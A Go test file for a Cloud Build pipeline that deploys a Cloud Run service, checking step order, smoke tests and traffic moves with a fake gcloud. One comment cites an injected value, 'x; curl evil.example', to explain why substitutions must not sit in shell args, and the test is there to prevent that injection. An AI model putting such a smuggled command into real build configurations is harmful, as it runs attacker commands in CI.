package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/oasdiff/yaml"
)

// buildStep is a step of cloudbuild.yaml.
type buildStep struct {
	ID, Name, Entrypoint, Script string
	Args, Env                    []string
}

func buildSteps(t *testing.T) []buildStep {
	t.Helper()
	var build struct{ Steps []buildStep }
	content := []byte(read(t, "../cloudbuild.yaml"))
	if _, err := yaml.Unmarshal(content, &build, yaml.DecodeOpts{}); err != nil {
		t.Fatal(err)
	}
	return build.Steps
}

func TestTheBuildTestsTheNewRevisionBeforeItGetsTraffic(t *testing.T) {
	build := read(t, "../cloudbuild.yaml")
	at := -1
	for _, next := range []string{
		"id: test", "go build -o /workspace/deploy.out ./deploy", "id: build", "id: push",
		"RepoDigests", "id: deploy", "cat /workspace/.image", "--no-traffic",
		`--tag="b${BUILD:0:8}"`,
		"--cpu=1", "--memory=", "--concurrency=", "--startup-probe=httpGet.path=/health/ready",
		"--liveness-probe=httpGet.path=/health/live", "id: smoke", "/workspace/deploy.out smoke",
		"id: traffic", "update-traffic",
	} {
		i := strings.Index(build[at+1:], next)
		if i < 0 {
			t.Fatalf("cloudbuild.yaml: %q is missing or too early", next)
		}
		at += 1 + i
	}
}

// TestSubstitutionsAreNotPartOfAShellScript: Cloud Build inserts substitutions as text, so in
// args, a value such as "x; curl evil.example" would become a command. It leaves the field
// script alone, so scripts read the values from their environment.
func TestSubstitutionsAreNotPartOfAShellScript(t *testing.T) {
	scripts := 0
	for _, step := range buildSteps(t) {
		if step.Entrypoint == "bash" && strings.Contains(strings.Join(step.Args, " "), "$") {
			t.Errorf("%s: bash gets a substitution in args; use script and env", step.ID)
		}
		if step.Script == "" {
			continue
		}
		scripts++
		known := matches(`(?m)^\s*(?:export )?(\w+)=`, step.Script)
		for _, variable := range step.Env {
			name, _, _ := strings.Cut(variable, "=")
			known = append(known, name)
		}
		for _, name := range matches(`\$\{?([A-Za-z_]+)`, step.Script) {
			if !slices.Contains(known, name) {
				t.Errorf("%s: the script uses $%s, which is not in its env", step.ID, name)
			}
		}
	}
	if scripts < 5 {
		t.Errorf("found only %d scripts", scripts)
	}
}

// runStep runs the script of a step with a fake gcloud, whose responses are the cases of a shell
// script. It returns the output and the calls of gcloud and of the smoke test.
func runStep(t *testing.T, id, responses string, environ ...string) (out, calls string, err error) {
	t.Helper()
	steps := buildSteps(t)
	i := slices.IndexFunc(steps, func(step buildStep) bool { return step.ID == id })
	if i < 0 {
		t.Fatalf("cloudbuild.yaml has no step %s", id)
	}
	folder := t.TempDir()
	for name, body := range map[string]string{
		"gcloud":     "case \"$*\" in\n" + responses + "\nesac",
		"deploy.out": "echo \"token: $IAM_TOKEN\" >> " + folder + "/calls",
	} {
		body = "#!/bin/sh\necho \"${0##*/} $*\" >> " + folder + "/calls\n" + body + "\n"
		if err := os.WriteFile(filepath.Join(folder, name), []byte(body), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(folder, ".image"), []byte("image"), 0o600); err != nil {
		t.Fatal(err)
	}
	code := strings.ReplaceAll(steps[i].Script, "/workspace/", folder+"/")
	cmd := exec.Command("bash", "-c", code)
	cmd.Env = append([]string{
		"PATH=" + folder + ":" + os.Getenv("PATH"), "BUILD=0123456789ab", "PROJECT=my-project",
		"REGION=us-central1", "SERVICE=latchkey", "ENV_VARS=", "MIN_INSTANCES=", "MAX_INSTANCES=",
	}, environ...)
	output, err := cmd.CombinedOutput()
	made, readErr := os.ReadFile(filepath.Join(folder, "calls"))
	if readErr != nil && !os.IsNotExist(readErr) {
		t.Fatal(readErr)
	}
	return string(output), string(made), err
}

func TestTheBuildNeedsAnAPIKey(t *testing.T) {
	for _, c := range []struct {
		name, service, variables string
		succeeds                 bool
	}{
		{"given", "exit 1", "^|^A=b|FIREBASE_API_KEY=k", true},
		{"kept by the service", `echo '{"name":"FIREBASE_API_KEY"}'`, "", true},
		{"missing", `echo '{"name":"OTHER"}'`, "", false},
		{"missing in the given variables", `echo '{"name":"OTHER"}'`, "A=b", false},
		{"no service", "echo 'Cannot find service' >&2; exit 1", "", false},
	} {
		out, _, err := runStep(t, "check", `*"services describe latchkey"*) `+c.service+" ;;",
			"ENV_VARS="+c.variables)
		if (err == nil) != c.succeeds || (err != nil && out == "") {
			t.Errorf("%s: got %v %s", c.name, err, out)
		}
	}
}

func TestTheBuildKeepsWhatItIsNotGiven(t *testing.T) {
	keeps := regexp.MustCompile(`--(set-env-vars|update-env-vars|(min|max)-instances)\S*`)
	_, calls, err := runStep(t, "deploy", "*) ;;")
	if found := keeps.FindString(calls); err != nil || found != "" {
		t.Errorf("without settings: %v, got %s", err, found)
	}
	_, calls, err = runStep(t, "deploy", "*) ;;", "ENV_VARS=^|^A=b c|D=e,f", "MIN_INSTANCES=0",
		"MAX_INSTANCES=7")
	want := " --min-instances=0 --max-instances=7 --set-env-vars=^|^A=b c|D=e,f\n"
	if err != nil || !strings.HasSuffix(calls, want) {
		t.Errorf("with settings: %v, got %s", err, calls)
	}
}

func TestTheBuildTestsTheURLOfItsOwnTag(t *testing.T) {
	const describe = `*'(status.traffic.filter("tag=b01234567").extract(url).flatten())'*)
		echo https://b01234567---latchkey-42.us-central1.run.app ;;
	*'(status.url)'*) echo https://latchkey-42.us-central1.run.app ;;` + "\n"
	const token = `*"print-identity-token --audiences=https://latchkey-42.us-central1.run.app") ` +
		`echo iam-token ;;`
	const tested = "deploy.out smoke https://b01234567---latchkey-42.us-central1.run.app\n"
	for _, c := range []struct {
		name, responses   string
		wantCall, wantOut string
		fails             bool
	}{
		{"private", describe + token, tested + "token: iam-token\n", "", false},
		{
			"public", describe + "*iam-disabled*) echo True ;;\n*token*) echo unneeded ;;",
			tested + "token: \n", "", false,
		},
		{
			"public for allUsers", describe + "*print-identity-token*) exit 1 ;;",
			tested + "token: \n", "Continuing without a token", false,
		},
		{"staff", "*iap-enabled*) echo true ;;\n" + describe, "", "Skipped. The startup", false},
		{"load balancer", "*/ingress*) echo internal-and-cloud-load-balancing ;;\n" + describe,
			"", "ingress: internal-and-cloud-load-balancing", false},
		{"no URL", "*) ;;", "", "The new revision has no URL.", true},
		{"a service that can't be read", "*) echo denied >&2; exit 1 ;;", "", "denied", true},
	} {
		out, calls, err := runStep(t, "smoke", c.responses)
		if (err != nil) != c.fails || !strings.HasSuffix(calls, c.wantCall) ||
			!strings.Contains(out, c.wantOut) {
			t.Errorf("%s: %v\n%s\n%s", c.name, err, out, calls)
		}
		if ran := strings.Contains(calls, "deploy.out"); ran != (c.wantCall != "") {
			t.Errorf("%s: the smoke test ran: %v", c.name, ran)
		}
	}
}

func TestTheBuildMovesTheTrafficAndRemovesItsTag(t *testing.T) {
	_, calls, err := runStep(t, "traffic", "*) ;;")
	want := "gcloud run services update-traffic latchkey --project=my-project " +
		"--region=us-central1 --to-revisions=latchkey-b01234567=100 --remove-tags=b01234567\n"
	if err != nil || calls != want {
		t.Errorf("%v, got %s", err, calls)
	}
}
